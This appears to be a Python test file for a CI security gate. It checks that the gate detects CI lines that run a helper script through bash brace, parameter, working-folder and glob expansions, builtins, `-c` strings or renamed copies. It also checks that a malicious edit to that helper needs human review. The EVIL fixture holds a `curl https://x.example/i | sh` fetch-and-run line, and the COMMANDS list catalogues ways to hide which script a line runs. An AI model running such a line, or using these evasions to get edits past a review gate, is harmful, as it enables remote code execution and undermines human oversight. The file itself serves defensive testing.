"""Attack 39: a CI line whose command bash finds only after its own expansions, or behind a shell's `-c` string.

bash expands a word before it runs it: braces (`./tools/{gen,lint}` runs tools/gen), a parameter's default
(`bash ${SCRIPT:-tools/gen}`), the working folder (`$PWD/tools/gen`, `${PWD}/…`, `` `pwd`/… ``, `~+/…`) and a glob an
interpreter runs (`bash tools/g?n`, `sh ./tools/[g]en`); `builtin source`/`builtin .` and `busybox sh` run
what the plain words run, `bash -c 'bash tools/gen'` runs the line its string holds, and `mv tools/gen run.sh &&
./run.sh` runs tools/gen's text under another name. The walk read none of these (`gate --tree --enable deps`: exit 0
on main 6dc8a08e for an extension-less helper edited beside such a line). Real bash runs the helper in every form the
test can run here.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from citools import LINE_DEFINITIONS, yaml_quoted
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import ciruns, walkpaths

HELPER = "#!/bin/sh\necho ran > ran.txt\n"
EVIL = HELPER + "curl https://x.example/i | sh\n"
# a command's place in a line: {c} is the command
PLACES = ["{c}", "set -e; {c}", "make lint && {c}", "if true; then {c}; fi", "sudo -E {c}", "timeout 60 {c}",
          "X=1 {c} --fast"]
# how the command names tools/gen (or a file whose text is tools/gen's) only after bash's expansions
COMMANDS = [
    # braces
    "./tools/{gen,lint}", "./tools/g{e,x}n", "bash tools/{gen,README.md}", "./{tools,bin}/gen", "./tools/{gen,}",
    "sh ./tools/{x,gen}",
    # a parameter's default
    "bash ${SCRIPT:-tools/gen}", "./${X:-tools/gen}", "${D:-tools}/gen", '"${D:-./tools}/gen"', "${D-tools}/gen",
    "${D:=tools}/gen", "bash ${S:-./tools/gen}",
    # the working folder
    "$PWD/tools/gen", "${PWD}/tools/gen", '"$PWD/tools/gen"', "`pwd`/tools/gen", '"$(pwd)"/tools/gen', "~+/tools/gen",
    "bash $PWD/tools/gen", "sh ${PWD}/tools/gen",
    # a glob as an interpreter's script
    "bash tools/g?n", "sh ./tools/[g]en", "bash ./tools/ge*", "source tools/ge[n]",
    # builtins and multi-call binaries
    "builtin source tools/gen", "builtin . tools/gen", "builtin source ./tools/gen x", "busybox sh tools/gen",
    "busybox ash ./tools/gen", "toybox sh tools/gen",
    # a shell's command string
    "bash -c 'bash tools/gen'", 'sh -c "sh ./tools/gen"', "bash -ec 'source tools/gen'", "bash -c '. tools/gen'",
    "sh -xc 'bash tools/gen x'",
    # tools/gen's text under another name the same line runs
    "mv tools/gen run.sh && ./run.sh", "cp tools/gen run.sh; bash run.sh", "ln -s tools/gen g && ./g",
    "cp tools/gen ./gen.sh && sh gen.sh", "cp -f tools/gen out/g; ./out/g", "ln -sf ../tools/gen bin2/g && bin2/g",
]
# a wrapper runs a program, not a builtin or a list of commands
_NOT_A_PROGRAM = ("builtin", "source", "&&", "; ")
LINES = [place.format(c=command) for command in COMMANDS for place in PLACES[:1]] + \
    [place.format(c=command) for command in COMMANDS[::4] for place in PLACES[1:]
     if not (place.startswith(("sudo", "timeout", "X=")) and any(part in command for part in _NOT_A_PROGRAM))]
# (a definition's path, its text with {line})
DEFINITIONS = LINE_DEFINITIONS


def _names(path: str, template: str, line: str, target: str = "tools/gen") -> bool:
    text = template.format(line=yaml_quoted(line) if path.endswith(".yml") else line)
    scripts, _, folders = ciruns.named_in(path, text)
    return any(walkpaths.reaches(pattern, target) for named in scripts for pattern in ciruns.resolved(
        named, path, folders))


@each_case("line", LINES)
def test_an_expanded_command_is_named(line: str) -> None:
    missed = [path for path, template in DEFINITIONS if not _names(path, template, line)]
    assert not missed, (line, missed)


def _runs_here(line: str) -> bool:
    return not any(word in line for word in ("sudo", "busybox", "toybox"))


@each_case("line", [line for line in LINES if _runs_here(line)][::2])
def test_bash_runs_the_helper(tmp_path: Path, line: str) -> None:
    """The truth: bash runs tools/gen's text in each form (every second line, whose programs are installed here)."""
    for folder in ("tools", "bin", "out", "bin2"):
        (tmp_path / folder).mkdir()
    gen = tmp_path / "tools" / "gen"
    gen.write_text(HELPER)
    gen.chmod(0o755)
    (tmp_path / "tools" / "README.md").write_text("\n")
    done = subprocess.run(["bash", "-c", f"make() {{ :; }}\n{line}"], cwd=tmp_path, capture_output=True, timeout=30,
                          check=False, env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)})
    assert list(tmp_path.rglob("ran.txt")), (line, done.stderr[-400:])


# lines that name tools/gen but run no file of it: an argument, a copy nothing runs, a string no shell runs (a `./x`
# word anywhere is read as a program run from a folder, expanded or not: `echo ./tools/gen` names it, as on main)
LOOK_ALIKES = ["echo tools/{gen,lint}", "ls tools/{gen,x}", "echo ${X:-tools/gen}", "cat ${D:-tools}/gen",
               "ls tools/g?n", "git add ./tools/*", "cp tools/gen out/gen", "mv tools/gen x && cat x",
               "bash -c 'echo tools/gen'", "ln -s tools/gen g && ls -l g", "diff ${A:-tools/gen} b",
               "tar czf a.tgz ${PWD}/tools/gen.txt", "printf '%s' builtin source tools/gen"]


@each_case("line", LOOK_ALIKES)
def test_a_file_named_but_not_run_is_not_named(line: str) -> None:
    for path, template in DEFINITIONS:
        assert not _names(path, template, line), (path, line)


@each_case("line", ["./tools/{gen,lint}", "bash ${SCRIPT:-tools/gen}", "$PWD/tools/gen",
                                  "bash tools/g?n", "builtin source tools/gen", "bash -c 'bash tools/gen'",
                                  "mv tools/gen run.sh && ./run.sh"])
def test_the_gated_edit_needs_a_human(tmp_path: Path, line: str) -> None:
    workflow = DEFINITIONS[0][1].format(line=yaml_quoted(line))
    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": workflow, "tools/gen": HELPER,
                                              "tools/lint": HELPER, "README.md": "x\n"}, {"tools/gen": EVIL})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 3, decision["reasons"]


# one unit of each hostile shape for the readings this round added
HOSTILE = ["{a,", "{a,b}", "${X:-", "${X:-a}/", "$PWD/", "~+/", "./t?", "./[a", "builtin ", "bash -c '", "mv a b && ",
           "cp a ./b; "]


@each_case("unit", HOSTILE)
def test_a_hostile_line_is_read_in_linear_time(unit: str) -> None:
    def read(line: str) -> object:
        return ciruns.named_in("ci/build.sh", "#!/bin/bash\n" + line + " x\n")

    assert_linear(read, repeated(unit), budget=2.0)

